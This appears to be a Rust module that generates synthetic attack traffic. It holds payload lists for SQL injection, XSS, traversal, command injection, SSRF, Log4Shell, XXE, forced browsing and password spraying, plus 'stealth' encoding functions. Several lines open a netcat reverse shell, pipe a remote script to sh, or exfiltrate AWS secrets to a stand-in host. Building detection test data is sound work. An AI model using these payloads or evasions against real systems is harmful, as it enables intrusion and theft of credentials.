//! Attack payloads as real tools send them (sqlmap, dalfox/XSStrike, dotdotpwn, commix,
//! SSRFmap, Log4Shell scanners, XXEinjector, ffuf wordlists, hydra/rockyou passwords) and the
//! encodings scanners and evaders apply to them. Everything here is text; nothing is executed.

use crate::rng::Rng;

pub const SQLI: &[&str] = &[
    "1' AND 1=1-- -",
    "1' AND 5526=5527-- -",
    "1' OR '1'='1",
    "1 AND SLEEP(5)",
    "1' AND (SELECT 2567 FROM (SELECT(SLEEP(5)))fGhx)-- bnQE",
    "1 UNION ALL SELECT NULL,NULL,CONCAT(0x7176787a71,IFNULL(CAST(username AS NCHAR),0x20),0x7176787a71) FROM users-- -",
    "-8317' UNION ALL SELECT NULL,CONCAT(0x717a6b7671,0x4a6b4c,0x7170707a71),NULL-- -",
    "1' AND EXTRACTVALUE(1,CONCAT(0x5c,0x7176787a71,(SELECT (ELT(1=1,1))),0x7176787a71))-- QqZs",
    "1);WAITFOR DELAY '0:0:5'--",
    "1 AND 8312=CAST((CHR(113)||CHR(106)||CHR(118)) AS NUMERIC)",
    "1' ORDER BY 9-- -",
    "') OR 1=1 LIMIT 1-- -",
    "admin'--",
    "1; DROP TABLE users-- -",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
];

pub const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.domain)>",
    "<svg/onload=confirm(1)>",
    "javascript:alert(document.cookie)",
    "'-alert(1)-'",
    "<iframe src=\"javascript:alert(1)\">",
    "<details open ontoggle=prompt(1)>",
    "<body onload=alert('XSS')>",
    "\"><script src=//198.19.200.7/x.js></script>",
    "<img src=1 oNeRrOr=alert`1`>",
];

pub const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "../../../../../../etc/shadow",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//....//....//etc/passwd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "/etc/passwd%00.pdf",
    "..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "../../../../proc/self/environ",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "../../../../var/www/.env",
];

pub const CMDI: &[&str] = &[
    "terms.pdf;id",
    "terms.pdf|cat /etc/passwd",
    "$(whoami)",
    "`uname -a`",
    "terms.pdf%0aid",
    "terms.pdf && curl http://198.19.200.7/x.sh | sh",
    "x||ping -c 10 198.19.200.7||",
    ";nc -e /bin/sh 198.19.200.7 4444",
    "terms.pdf;sleep 10",
    "$(cat${IFS}/etc/passwd)",
];

pub const SSRF: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://127.0.0.1:6379/",
    "http://localhost:8500/v1/agent/self",
    "http://[::1]:22/",
    "http://0x7f000001/admin",
    "http://2130706433/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:25/_HELO%20localhost",
    "http://10.0.0.1:8080/actuator/env",
    "dict://127.0.0.1:11211/stats",
];

pub const JNDI: &[&str] = &[
    "${jndi:ldap://198.19.200.9:1389/Exploit}",
    "${jndi:rmi://198.19.200.9:1099/a}",
    "${jndi:dns://198.19.200.9/ua}",
    "${${lower:j}ndi:${lower:l}dap://198.19.200.9:1389/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.19.200.9/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.19.200.9/b}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.198.19.200.9/c}",
];

pub const XXE: &[&str] = &[
    "<?xml version=\"1.0\"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<orders><order><sku>&xxe;</sku><qty>1</qty></order></orders>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE data [<!ENTITY % dtd SYSTEM \"http://198.19.200.7/evil.dtd\"> %dtd; %all;]>\n<orders><order><sku>&send;</sku></order></orders>",
    "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>\n<orders><order><note>&x;</note></order></orders>",
    "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>\n<orders><order><sku>&lol3;</sku></order></orders>",
    "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]>\n<orders><order><sku>&xxe;</sku></order></orders>",
];

/// ffuf / dirsearch common.txt-style paths.
pub const FORCED_PATHS: &[&str] = &[
    "/.env",
    "/.git/HEAD",
    "/.git/config",
    "/admin",
    "/admin/login",
    "/administrator",
    "/backup.zip",
    "/backup.sql",
    "/db.sql",
    "/config.php",
    "/wp-login.php",
    "/wp-admin/",
    "/phpinfo.php",
    "/server-status",
    "/actuator",
    "/actuator/env",
    "/actuator/heapdump",
    "/swagger.json",
    "/swagger-ui.html",
    "/api-docs",
    "/v2/api-docs",
    "/graphql",
    "/console",
    "/.DS_Store",
    "/.svn/entries",
    "/.htaccess",
    "/web.config",
    "/debug",
    "/api/v1/admin",
    "/api/v1/debug",
    "/api/v1/internal",
    "/api/v1/export/users",
    "/api/v1/config",
    "/test",
    "/old",
    "/dev",
    "/staging",
    "/api/v1/.env",
    "/robots.txt",
    "/sitemap.xml",
    "/crossdomain.xml",
    "/.well-known/security.txt",
    "/metrics",
    "/api/v1/health/details",
    "/jolokia",
    "/id_rsa",
    "/.aws/credentials",
    "/docker-compose.yml",
    "/package.json",
    "/composer.json",
];

/// Top of the rockyou list, as hydra walks it.
pub const PASSWORDS: &[&str] = &[
    "123456",
    "12345",
    "123456789",
    "password",
    "iloveyou",
    "princess",
    "1234567",
    "rockyou",
    "12345678",
    "abc123",
    "nicole",
    "daniel",
    "babygirl",
    "monkey",
    "lovely",
    "jessica",
    "654321",
    "michael",
    "ashley",
    "qwerty",
    "111111",
    "iloveu",
    "000000",
    "michelle",
    "tigger",
    "sunshine",
    "chocolate",
    "password1",
    "soccer",
    "anthony",
    "friends",
    "butterfly",
    "purple",
    "angel",
    "jordan",
    "liverpool",
    "justin",
    "loveme",
    "fuckyou",
    "123123",
    "football",
    "secret",
    "andrea",
    "carlos",
    "jennifer",
    "joshua",
    "bubbles",
    "1234567890",
    "superman",
    "hannah",
];

/// Browser user agents, current as of the capture date.
pub const BROWSER_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.104 Mobile Safari/537.36",
];

pub const MOBILE_UAS: &[&str] = &[
    "ShopApp/5.14.2 (Android 14; Pixel 8; okhttp/4.12.0)",
    "ShopApp/5.14.1 (iOS 18.2; iPhone15,2; CFNetwork/1568.300.101)",
    "ShopApp/5.13.0 (Android 13; SM-A536B; okhttp/4.11.0)",
    "ShopApp/5.14.2 (iOS 17.6.1; iPhone13,3; CFNetwork/1496.0.7)",
];

pub const INTEGRATION_UAS: &[&str] = &[
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "Apache-HttpClient/5.4.1 (Java/21.0.5)",
    "ERPConnector/3.2 (+https://erp.partner.example)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
];

/// How a payload is written into a URL or body.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    /// RFC 3986 percent-encoding of everything but unreserved characters.
    Percent,
    /// Form style: spaces as `+`.
    Plus,
    /// Percent-encoded twice (`%2527`).
    Double,
    /// SQL comments for spaces (sqlmap's space2comment), then percent-encoded.
    Comment,
    /// Random upper/lower case of letters (sqlmap's randomcase), then percent-encoded.
    RandomCase,
}

/// Percent-encodes all but RFC 3986 unreserved characters (and `%` of already-encoded
/// payloads, which stays as is so pre-encoded traversal strings keep their form).
pub fn pct(s: &str, keep_pct: bool) -> String {
    let mut o = String::with_capacity(s.len() * 2);
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                o.push(b as char)
            }
            b'%' if keep_pct => o.push('%'),
            _ => o.push_str(&format!("%{b:02X}")),
        }
    }
    o
}

/// Writes `payload` for a query string or path segment with `enc`.
pub fn encode(payload: &str, enc: Encoding, r: &mut Rng) -> String {
    match enc {
        Encoding::Percent => pct(payload, true),
        Encoding::Plus => pct(payload, true).replace("%20", "+"),
        Encoding::Double => pct(&pct(payload, false), false),
        Encoding::Comment => pct(&payload.replace(' ', "/**/"), true),
        Encoding::RandomCase => {
            let mixed: String = payload
                .chars()
                .map(|c| {
                    if r.chance(0.5) {
                        c.to_ascii_uppercase()
                    } else {
                        c.to_ascii_lowercase()
                    }
                })
                .collect();
            pct(&mixed, true)
        }
    }
}

/// An encoding: plain percent-encoding, or (with `stealth`) any variant.
pub fn pick_encoding(r: &mut Rng, stealth: bool) -> Encoding {
    if !stealth {
        return if r.chance(0.7) {
            Encoding::Percent
        } else {
            Encoding::Plus
        };
    }
    *r.pick(&[
        Encoding::Percent,
        Encoding::Plus,
        Encoding::Double,
        Encoding::Comment,
        Encoding::RandomCase,
    ])
}

/// Reverses [`pct`] once (`+` stays `+`); for tests and label checks.
pub fn pct_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            if let Ok(v) = u8::from_str_radix(&s[i + 1..i + 3], 16) {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encodings_round_trip_and_stay_in_the_uri_alphabet() {
        let mut r = Rng::new(1);
        for p in SQLI.iter().chain(XSS).chain(JNDI).chain(CMDI) {
            for enc in [
                Encoding::Percent,
                Encoding::Plus,
                Encoding::Double,
                Encoding::Comment,
                Encoding::RandomCase,
            ] {
                let e = encode(p, enc, &mut r);
                assert!(
                    e.bytes()
                        .all(|b| b.is_ascii_graphic() && !b"\"<>\\^`{|} ".contains(&b)),
                    "{e}"
                );
                match enc {
                    _ if p.contains('%') => {}
                    Encoding::Percent => assert_eq!(pct_decode(&e), *p),
                    Encoding::Double => assert_eq!(pct_decode(&pct_decode(&e)), *p),
                    Encoding::RandomCase => {
                        assert_eq!(pct_decode(&e).to_lowercase(), p.to_lowercase())
                    }
                    _ => {}
                }
            }
        }
        assert_eq!(encode("1' OR 1=1", Encoding::Plus, &mut r), "1%27+OR+1%3D1");
        assert_eq!(encode("a b", Encoding::Comment, &mut r), "a%2F%2A%2A%2Fb");
    }
}
